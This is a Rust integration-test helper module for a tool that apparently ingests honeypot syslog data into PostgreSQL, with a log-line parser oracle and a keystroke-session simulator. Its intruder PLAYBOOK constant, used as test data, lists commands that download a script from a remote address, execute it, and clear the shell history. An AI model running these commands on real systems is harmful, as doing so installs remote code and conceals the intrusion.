//! Helpers for the integration tests. `./x test` starts a throwaway cluster with
//! the extension installed and pg_cron preloaded, and exports DECNET_TEST_DSN
//! (its `postgres` database), DECNET_SHARED and DECNET_BIN.

use postgres::{Client, NoTls};
use std::path::PathBuf;

pub fn base_dsn() -> String {
    std::env::var("DECNET_TEST_DSN")
        .expect("DECNET_TEST_DSN is not set: run the integration tests through `./x test`")
}

/// The `decnet` binary `./x test` built, connecting to `dsn` (not to $DECNET_DSN).
pub fn decnet_command(dsn: &str) -> std::process::Command {
    let bin = std::env::var("DECNET_BIN").expect("DECNET_BIN is not set: run through `./x test`");
    let mut cmd = std::process::Command::new(bin);
    cmd.env_remove("DECNET_DSN").args(["--dsn", dsn]);
    cmd
}

/// The DSN of database `name` on the test cluster.
pub fn dsn_for(name: &str) -> String {
    let base = base_dsn();
    assert!(
        base.contains("dbname=postgres"),
        "DECNET_TEST_DSN must name dbname=postgres"
    );
    base.replace("dbname=postgres", &format!("dbname={name}"))
}

pub fn connect(dsn: &str) -> Client {
    Client::connect(dsn, NoTls).unwrap_or_else(|e| panic!("connect {dsn}: {e}"))
}

/// A new empty database (dropped first if a previous run left it).
pub fn fresh_db(name: &str) -> Client {
    let mut admin = connect(&base_dsn());
    admin
        .batch_execute(&format!("DROP DATABASE IF EXISTS {name} WITH (FORCE)"))
        .unwrap();
    admin
        .batch_execute(&format!("CREATE DATABASE {name}"))
        .unwrap();
    connect(&dsn_for(name))
}

/// A new database with the extension created and every migration applied.
pub fn migrated_db(name: &str) -> Client {
    let mut c = fresh_db(name);
    decnet_cli::db::migrate(&mut c).expect("migrate");
    c
}

/// A generated corpus (cached under target/), from the shared generator.
pub fn corpus(n: usize, seed: u64) -> PathBuf {
    let shared = PathBuf::from(
        std::env::var("DECNET_SHARED").expect("DECNET_SHARED is not set: run through `./x test`"),
    );
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../target/it-corpus");
    std::fs::create_dir_all(&dir).unwrap();
    let out = dir.join(format!("corpus-{n}-{seed}.log"));
    if !out.exists() {
        // one temporary file per writer: tests of one binary may ask for the same corpus at once
        let tmp = out.with_extension(format!(
            "tmp.{}.{:?}",
            std::process::id(),
            std::thread::current().id()
        ));
        let ok = std::process::Command::new("python3")
            .arg(shared.join("corpus/gen_corpus.py"))
            .args(["--n", &n.to_string(), "--seed", &seed.to_string(), "-o"])
            .arg(&tmp)
            .status()
            .expect("python3 runs")
            .success();
        assert!(ok, "gen_corpus.py failed");
        std::fs::rename(&tmp, &out).unwrap();
    }
    out
}

/// A PostgreSQL program (initdb, pg_ctl, pg_dump, …) of the server under test.
pub fn pg_bin(name: &str) -> PathBuf {
    let dir = std::env::var("DECNET_PG_BIN").unwrap_or_else(|_| {
        let out = std::process::Command::new("pg_config")
            .arg("--bindir")
            .output()
            .expect("pg_config runs");
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    });
    PathBuf::from(dir).join(name)
}

/// A file path of this test run under target/ (never a shared /tmp path another user may own).
pub fn scratch_file(name: &str) -> PathBuf {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../target/it-tmp");
    std::fs::create_dir_all(&dir).unwrap();
    dir.join(format!("{}-{name}", std::process::id()))
}

/// Lines of a file as the loader must see them: split at `\n`, no trailing empty line.
pub fn file_lines(data: &[u8]) -> Vec<&[u8]> {
    let mut lines: Vec<&[u8]> = data.split(|&b| b == b'\n').collect();
    if lines.last().is_some_and(|l| l.is_empty()) {
        lines.pop();
    }
    lines
}

/// Concurrent writers: line i of `lines` goes to writer i % `writers`, so every
/// busy attacker is written by several at once. Each writer COPYs its share
/// on its own connection, `statement_lines` lines per statement; join the
/// handles for the lines each stored.
pub fn spawn_writers(
    dsn: &str,
    lines: &[&[u8]],
    writers: usize,
    statement_lines: usize,
) -> Vec<std::thread::JoinHandle<u64>> {
    (0..writers)
        .map(|w| {
            let shard: Vec<Vec<u8>> = lines
                .iter()
                .skip(w)
                .step_by(writers)
                .map(|l| [*l, b"\n"].concat())
                .collect();
            let dsn = dsn.to_owned();
            std::thread::spawn(move || {
                let mut client = connect(&dsn);
                shard
                    .chunks(statement_lines)
                    .map(|stmt| ingest_bytes(&mut client, &stmt.concat()).lines)
                    .sum()
            })
        })
        .collect()
}

/// Ingests bytes through the same loader the CLI uses.
pub fn ingest_bytes(client: &mut Client, data: &[u8]) -> decnet_cli::ingest::IngestStats {
    let mut reader = std::io::BufReader::new(data);
    decnet_cli::ingest::copy_lines(
        client,
        decnet_cli::ingest::COPY_LOGS,
        &mut reader,
        &indicatif::ProgressBar::hidden(),
    )
    .expect("COPY through the loader")
}

/// Every stored line, in id order, as its exact original bytes.
pub fn stored_lines(client: &mut Client) -> Vec<Vec<u8>> {
    client
        .query(
            "SELECT raw_line, raw_bytes FROM decnet.logs ORDER BY id",
            &[],
        )
        .unwrap()
        .iter()
        .map(|r| match r.get::<_, Option<Vec<u8>>>(1) {
            Some(bytes) => bytes,
            None => r.get::<_, String>(0).into_bytes(),
        })
        .collect()
}

/// The first column of every row of a query.
pub fn column<T: for<'a> postgres::types::FromSql<'a>>(client: &mut Client, sql: &str) -> Vec<T> {
    client
        .query(sql, &[])
        .unwrap_or_else(|e| panic!("{sql}: {}", db_message(&e)))
        .iter()
        .map(|r| r.get(0))
        .collect()
}

/// The payload of a decnet notification: a NOTIFY carries only the outbox
/// sequence number (no address a LISTENer without table access could read),
/// the payload is the row of decnet.notifications.
pub fn notification(client: &mut Client, channel: &str, notify_payload: &str) -> serde_json::Value {
    let seq: i64 = notify_payload
        .parse()
        .unwrap_or_else(|_| panic!("a NOTIFY carries only a sequence number: {notify_payload:?}"));
    let row = client
        .query_one(
            "SELECT channel, payload::text FROM decnet.notifications WHERE seq = $1",
            &[&seq],
        )
        .unwrap_or_else(|e| panic!("notification {seq}: {e}"));
    assert_eq!(row.get::<_, String>(0), channel);
    serde_json::from_str(&row.get::<_, String>(1)).unwrap()
}

/// The server's message of a database error (the error's Display says only "db error").
pub fn db_message(e: &postgres::Error) -> String {
    e.as_db_error().map_or_else(
        || e.to_string(),
        |d| format!("{} [{}]", d.message(), d.code().code()),
    )
}

pub fn count(client: &mut Client, sql: &str) -> i64 {
    client
        .query_one(sql, &[])
        .unwrap_or_else(|e| panic!("{sql}: {}", db_message(&e)))
        .get(0)
}

pub mod oracle {
    //! The tests' own reading of a DECNET line, written from the spec
    //! (decnet-reference.md §A) and independent of decnet-core, so that the
    //! database's results can be checked against it.

    use regex::Regex;
    use std::collections::HashMap;
    use std::net::IpAddr;
    use std::sync::OnceLock;

    #[derive(Debug, Clone)]
    pub struct Line {
        pub ts: String,
        pub decky: Option<String>,
        pub service: Option<String>,
        pub event_type: Option<String>,
        pub fields: HashMap<String, String>,
        pub msg: String,
        pub ip: Option<IpAddr>,
    }

    impl Line {
        /// Command text of a command-family event (spec §D.3).
        pub fn command(&self) -> Option<&str> {
            const CMD_EVENTS: [&str; 9] = [
                "command",
                "exec",
                "query",
                "input",
                "shell_input",
                "execute",
                "run",
                "sql_query",
                "redis_command",
            ];
            if !CMD_EVENTS.contains(&self.event_type.as_deref()?) {
                return None;
            }
            ["command", "query", "input", "line", "sql", "cmd"]
                .iter()
                .find_map(|k| {
                    self.fields
                        .get(*k)
                        .map(String::as_str)
                        .filter(|v| !v.is_empty())
                })
        }
    }

    struct Res {
        header: Regex,
        inner: Regex,
        prose: Regex,
        bare: Regex,
    }

    fn res() -> &'static Res {
        static R: OnceLock<Res> = OnceLock::new();
        R.get_or_init(|| Res {
            header: Regex::new(r"^<\d{1,3}>1 (\S+) (\S+) (\S+) (\S+) (\S+)(?: (.*))?$").unwrap(),
            inner: Regex::new(r"^-\s+(\d{4}-\d\d-\d\dT\S+)\s+(\S+)\s+(\S+)\s+\S+\s+(\S+)\s+(.+)$").unwrap(),
            prose: Regex::new(r"(?i)\b(?:from|rhost[:=]|client[:=]|src[:=])\s*(\d{1,3}(?:\.\d{1,3}){3}|[0-9a-f:]*:[0-9a-f:.]+)").unwrap(),
            bare: Regex::new(r"\b\d{1,3}(?:\.\d{1,3}){3}\b").unwrap(),
        })
    }

    fn ip_value(v: &str) -> Option<IpAddr> {
        let fold = |ip: IpAddr| match ip {
            IpAddr::V6(v6) => v6
                .to_ipv4_mapped()
                .map(IpAddr::V4)
                .unwrap_or(IpAddr::V6(v6)),
            v4 => v4,
        };
        if let Ok(ip) = v.parse::<IpAddr>() {
            return Some(fold(ip));
        }
        if let Some(rest) = v.strip_prefix('[') {
            let (inside, after) = rest.split_once(']')?;
            if after.is_empty() || after[1..].parse::<u16>().is_ok() && after.starts_with(':') {
                return inside.parse().ok().map(fold);
            }
            return None;
        }
        let (host, port) = v.rsplit_once(':')?;
        port.parse::<u16>().ok()?;
        host.parse::<std::net::Ipv4Addr>().ok().map(IpAddr::V4)
    }

    /// Parameters of the `[relay@55555 …]` element and the text after the SD.
    fn structured(rest: &str) -> (HashMap<String, String>, String) {
        let mut fields = HashMap::new();
        let Some(body) = rest.strip_prefix('[') else {
            return (
                fields,
                rest.strip_prefix('-')
                    .unwrap_or(rest)
                    .trim_start()
                    .to_string(),
            );
        };
        let chars: Vec<char> = body.chars().collect();
        let mut i = 0;
        let mut in_relay = body.starts_with("relay@55555 ");
        let (mut name, mut value, mut in_value, mut reading_name) =
            (String::new(), String::new(), false, false);
        while i < chars.len() {
            let c = chars[i];
            if in_value {
                if c == '\\' && i + 1 < chars.len() && matches!(chars[i + 1], '"' | '\\' | ']') {
                    value.push(chars[i + 1]);
                    i += 2;
                    continue;
                }
                if c == '"' {
                    if in_relay {
                        fields.insert(std::mem::take(&mut name), std::mem::take(&mut value));
                    }
                    name.clear();
                    value.clear();
                    in_value = false;
                } else {
                    value.push(c);
                }
            } else if c == ']' {
                // end of element; another may follow directly
                if chars.get(i + 1) == Some(&'[') {
                    let tail: String = chars[i + 2..].iter().collect();
                    in_relay = tail.starts_with("relay@55555 ");
                    i += 2;
                    continue;
                }
                let msg: String = chars[i + 1..].iter().collect();
                return (fields, msg.trim_start().to_string());
            } else if c == ' ' {
                reading_name = true;
                name.clear();
            } else if c == '=' && chars.get(i + 1) == Some(&'"') {
                in_value = true;
                reading_name = false;
                i += 1;
            } else if reading_name {
                name.push(c);
            }
            i += 1;
        }
        (fields, String::new()) // unterminated: what was read survives
    }

    pub fn read(raw: &str) -> Option<Line> {
        let r = res();
        let t = raw.trim_matches(|c: char| c.is_whitespace() || ('\x1c'..='\x1f').contains(&c));
        let c = r.header.captures(t)?;
        let ts = c[1].to_string();
        let (mut host, mut app, mut msgid) = (c[2].to_string(), c[3].to_string(), c[5].to_string());
        let mut rest = c.get(6).map_or("", |m| m.as_str()).to_string();
        if msgid == "-" {
            if let Some(ic) = r.inner.captures(&rest) {
                (host, app, msgid) = (ic[2].to_string(), ic[3].to_string(), ic[4].to_string());
                rest = ic[5].to_string();
            }
        }
        let (mut fields, msg) = structured(&rest);
        let keys = [
            "src_ip",
            "src",
            "client_ip",
            "remote_ip",
            "remote_addr",
            "target_ip",
            "ip",
        ];
        let mut ip = keys
            .iter()
            .find_map(|k| fields.get(*k).and_then(|v| ip_value(v)));
        if ip.is_none() {
            ip = msg.split_whitespace().find_map(|tok| {
                let (k, v) = tok.split_once('=')?;
                keys.iter()
                    .any(|key| {
                        k.ends_with(key)
                            && (k.len() == key.len()
                                || !k.as_bytes()[k.len() - key.len() - 1].is_ascii_alphanumeric()
                                    && k.as_bytes()[k.len() - key.len() - 1] != b'_')
                    })
                    .then(|| ip_value(v))?
            });
        }
        if ip.is_none() {
            ip = r.prose.captures_iter(&msg).find_map(|m| ip_value(&m[1]));
        }
        if ip.is_none() {
            ip = r.bare.find_iter(&msg).find_map(|m| {
                m.as_str()
                    .parse::<std::net::Ipv4Addr>()
                    .ok()
                    .map(IpAddr::V4)
            });
        }
        let nil = |s: String| (s != "-").then_some(s);
        let mut event_type = nil(msgid);
        if matches!(event_type.as_deref(), None | Some("command"))
            && !fields.contains_key("command")
        {
            if let Some(body) = msg.strip_prefix("CMD ") {
                event_type = Some("command".into());
                if let Some((_, cmd)) = body.split_once("cmd=") {
                    fields.insert("command".into(), cmd.to_string());
                }
            }
        }
        Some(Line {
            ts,
            decky: nil(host),
            service: nil(app),
            event_type,
            fields,
            msg,
            ip,
        })
    }
}

/// Seeded random numbers for generated test data: every run sees the same data.
pub struct Rng(pub decnet_cli::bench::SplitMix64);
impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(decnet_cli::bench::SplitMix64(seed))
    }
    /// Uniform in [0, 1).
    pub fn unit(&mut self) -> f64 {
        (self.0.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }
    /// Uniform in 0..n.
    pub fn below(&mut self, n: usize) -> usize {
        (self.0.next_u64() % n as u64) as usize
    }
    /// Standard normal (Box–Muller).
    pub fn normal(&mut self) -> f64 {
        let (u1, u2) = (self.unit().max(1e-12), self.unit());
        (-2.0 * u1.ln()).sqrt() * (std::f64::consts::TAU * u2).cos()
    }
}

/// Simulated typists for the keystroke tests: each has a base speed and its
/// own per-digraph rhythm (some pairs fast, some slow), fixed by its seed; a
/// session types a playbook with small lognormal jitter around that rhythm.
pub mod typist {
    use super::Rng;

    pub struct Typist {
        pub seed: u64,
        /// Median flight of an average digraph, seconds.
        pub base: f64,
    }

    impl Typist {
        /// This typist's median flight for the digraph `a b`: the base speed
        /// times a factor between 0.5 and 2 that depends only on (typist, digraph).
        pub fn flight(&self, a: char, b: char) -> f64 {
            let mut r =
                Rng::new(self.seed ^ ((a as u64) << 32) ^ (b as u64).wrapping_mul(0x1000_0001));
            self.base * 2f64.powf(r.unit() * 2.0 - 1.0)
        }

        /// The sessrec JSONL lines of one session (header included) typing
        /// `commands`, each followed by Enter and a line of output.
        pub fn session(&self, sid: &str, commands: &[&str], rng: &mut Rng) -> String {
            let line = |t: f64, ch: &str, d: &str| {
                format!(
                    "{{\"sid\":\"{sid}\",\"t\":{t:.6},\"ch\":\"{ch}\",\"d\":{}}}\n",
                    serde_json::to_string(d).unwrap()
                )
            };
            let mut out = format!(
                "{{\"sid\":\"{sid}\",\"hdr\":{{\"version\":2,\"width\":80,\"height\":24,\"timestamp\":1767225600,\"env\":{{\"SHELL\":\"/bin/bash\"}}}}}}\n"
            );
            let mut t = 0.0;
            out += &line(t, "o", "root@host:~# ");
            for cmd in commands {
                t += 1.0 + rng.unit() * 2.0; // reading the prompt
                let mut prev: Option<char> = None;
                for c in cmd.chars().chain(std::iter::once('\r')) {
                    if let Some(p) = prev {
                        t += self.flight(p, c) * (0.02 * rng.normal()).exp();
                    }
                    out += &line(t, "i", &c.to_string());
                    prev = Some(c);
                }
                t += 0.05;
                out += &line(t, "o", "output\r\nroot@host:~# ");
            }
            out
        }
    }

    /// What an intruder types after logging in.
    pub const PLAYBOOK: &[&str] = &[
        "uname -a",
        "cat /proc/cpuinfo | grep name",
        "wget http://203.0.113.9/x.sh -O /tmp/x.sh",
        "chmod +x /tmp/x.sh && /tmp/x.sh",
        "history -c",
    ];
}
pub mod dns;

/// A fresh, empty directory of this test run under target/.
pub fn scratch_dir(name: &str) -> PathBuf {
    let dir = scratch_file(name);
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Written lines against stored ones, as multisets.
pub struct Tally {
    /// Each distinct written line: how often it was written, how often stored.
    pub lines: Vec<(Vec<u8>, usize, usize)>,
    /// Stored lines nobody wrote.
    pub unknown: Vec<Vec<u8>>,
    /// Rows stored in all.
    pub stored: usize,
}

impl Tally {
    /// Distinct lines stored a different number of times than written.
    pub fn not_once(&self) -> usize {
        self.lines
            .iter()
            .filter(|(_, written, stored)| written != stored)
            .count()
    }

    /// Distinct lines stored fewer times than written.
    pub fn missing(&self) -> usize {
        self.lines
            .iter()
            .filter(|(_, written, stored)| stored < written)
            .count()
    }
}

/// Every line decnet.logs holds (exact bytes) tallied against `written`.
pub fn tally(client: &mut Client, written: &[&[u8]]) -> Tally {
    use std::collections::HashMap;
    let stored = stored_lines(client);
    let mut have: HashMap<&[u8], usize> = HashMap::new();
    for s in &stored {
        *have.entry(s.as_slice()).or_default() += 1;
    }
    let mut want: HashMap<&[u8], usize> = HashMap::new();
    for w in written {
        *want.entry(*w).or_default() += 1;
    }
    Tally {
        lines: want
            .iter()
            .map(|(l, n)| (l.to_vec(), *n, have.get(l).copied().unwrap_or(0)))
            .collect(),
        unknown: have
            .keys()
            .filter(|k| !want.contains_key(*k))
            .map(|k| k.to_vec())
            .collect(),
        stored: stored.len(),
    }
}

/// The fenced block of docs/ingest.md tagged `tag` (```tag): the tests run
/// the configurations the docs show.
pub fn documented_block(tag: &str) -> String {
    let doc = std::fs::read_to_string(
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../docs/ingest.md"),
    )
    .unwrap();
    let open = format!("```{tag}\n");
    let start = doc
        .find(&open)
        .unwrap_or_else(|| panic!("docs/ingest.md has a {tag} block"))
        + open.len();
    doc[start..start + doc[start..].find("```").unwrap()].to_string()
}

/// rsyslogd (Debian package) in the foreground, running the documented
/// block `tag` on a copy of `data` in a scratch directory: the block's log
/// path becomes that copy, and each (documented, test) pair is replaced.
pub fn rsyslogd(
    name: &str,
    tag: &str,
    data: &[u8],
    replacements: &[(&str, String)],
) -> std::process::Child {
    let dir = scratch_dir(name);
    let log = dir.join("decnet.log");
    std::fs::write(&log, data).unwrap();
    let mut text =
        documented_block(tag).replace("/var/log/decnet/decnet.log", log.to_str().unwrap());
    for (from, to) in replacements {
        assert!(text.contains(from), "the {tag} block holds {from}");
        text = text.replace(from, to);
    }
    let conf = format!("global(workDirectory=\"{}\")\n", dir.display()) + &text;
    std::fs::write(dir.join("rsyslog.conf"), conf).unwrap();
    std::process::Command::new("rsyslogd")
        .arg("-n")
        .arg("-f")
        .arg(dir.join("rsyslog.conf"))
        .arg("-i")
        .arg(dir.join("rsyslogd.pid"))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("rsyslogd runs (Debian rsyslog)")
}

/// Waits until decnet.logs holds `n` lines; panics if rsyslogd exits or `secs` pass.
pub fn wait_for_rsyslog(
    client: &mut Client,
    rsyslogd: &mut std::process::Child,
    n: i64,
    secs: u64,
) {
    let started = std::time::Instant::now();
    while count(client, "SELECT count(*) FROM decnet.logs") < n {
        if let Some(status) = rsyslogd.try_wait().unwrap() {
            panic!(
                "rsyslogd exited ({status}): {:?}",
                rsyslogd.stderr.take().map(std::io::read_to_string)
            );
        }
        assert!(
            started.elapsed() < std::time::Duration::from_secs(secs),
            "only {} of {n} lines",
            count(client, "SELECT count(*) FROM decnet.logs")
        );
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
}

/// SIGTERM to rsyslogd; returns what it wrote on stderr.
pub fn stop_rsyslog(rsyslogd: std::process::Child) -> String {
    // SAFETY: kill(2) of our own child
    unsafe { libc::kill(rsyslogd.id() as i32, libc::SIGTERM) };
    String::from_utf8_lossy(&rsyslogd.wait_with_output().unwrap().stderr).into_owned()
}
